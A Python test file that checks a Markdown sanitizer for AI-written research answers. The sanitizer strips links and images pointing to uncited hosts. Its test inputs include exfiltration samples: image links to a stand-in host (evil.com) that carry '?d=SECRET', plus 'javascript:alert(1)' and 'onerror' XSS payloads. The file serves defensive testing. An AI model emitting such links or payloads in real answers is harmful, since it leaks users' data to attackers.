"""``safe_markdown.safe_answer``: what a model-written answer may keep (issue #21, finding 2). The end-to-end check
through the CLI is tests/integration/test_agentic_security.py; these pin each Markdown form."""

from __future__ import annotations

import pytest

from deepsearcher.agents.safe_markdown import report_hosts, safe_answer

HOSTS = report_hosts(["https://cited.org/page", "/local/file.md", "http://[::1]:9/x"])
GONE = "(link to `{}` removed: not a cited source)"


def test_hosts_are_those_of_web_sources() -> None:
    assert HOSTS == {"cited.org", "::1"}


@pytest.mark.parametrize(("text", "expected"), [
    ("![x](http://evil.com/i?d=SECRET)", "x " + GONE.format("evil.com")),
    ("![x](<http://evil.com/a b?d=1> \"t\")", "x " + GONE.format("evil.com")),
    ("![chart](https://cited.org/c.png)", "[chart](<https://cited.org/c.png>)"),
    ("![local](chart.png)", "local"),
    ("![r][ref]", "r"),
    ("[page](http://evil.com/?d=1)", "page " + GONE.format("evil.com")),
    ("[page](https://CITED.org/a?b)", "[page](https://CITED.org/a?b)"),
    ("[a [1] b](//evil.com/x)", "a [1] b " + GONE.format("evil.com")),
    ("[js](javascript:alert(1))", "js " + GONE.format("javascript")),
    ("[anchor](#source-1)", "[anchor](#source-1)"),
    ("<http://evil.com/x>", GONE.format("evil.com")),
    ("<https://cited.org/x>", "<https://cited.org/x>"),
    ("see https://evil.com/p?d=SECRET.", "see " + GONE.format("evil.com")),
    ("see www.evil.org/q", "see " + GONE.format("www.evil.org")),
    ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
    ("a <b>bold</b> move", "a \\<b>bold\\</b> move"),
    ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ("[ref]: http://evil.io/?d=1", "\\[ref]: " + GONE.format("evil.io")),
    ("`<img src=http://evil.com/x>`", "`<img src=http://evil.com/x>`"),
    ("```\n<script>x</script> ![i](http://evil.com/y)\n```\n", "```\n<script>x</script> ![i](http://evil.com/y)\n```\n"),
    ("Plain answer [1].", "Plain answer [1]."),
])
def test_model_markdown_is_rewritten(text: str, expected: str) -> None:
    assert safe_answer(text, HOSTS) == expected


def test_links_all_keeps_links_but_never_images_or_html() -> None:
    text = "[p](http://evil.com/a) ![i](http://evil.com/i) <img src=x>"
    assert safe_answer(text, set(), "all") == "[p](http://evil.com/a) [i](<http://evil.com/i>) \\<img src=x>"


def test_text_after_a_fence_is_rewritten_again() -> None:
    text = "~~~\n<b>\n~~~\nafter <b>x</b>"
    assert safe_answer(text, set()) == "~~~\n<b>\n~~~\nafter \\<b>x\\</b>"


def test_outside_titles_stay_one_line_of_text() -> None:
    from deepsearcher.agents.safe_markdown import md_inline, md_source

    assert md_inline("x](https://evil/?d=1) ![y\n# h <b> a_b `c`") == \
        "x\\](https://evil/?d=1) \\!\\[y # h \\<b\\> a_b \\`c\\`"
    assert md_source("https://milvus.io/docs?a=1") == "https://milvus.io/docs?a=1"
    assert md_source("/d/[x]<y>.md") == "/d/\\[x\\]\\<y\\>.md"
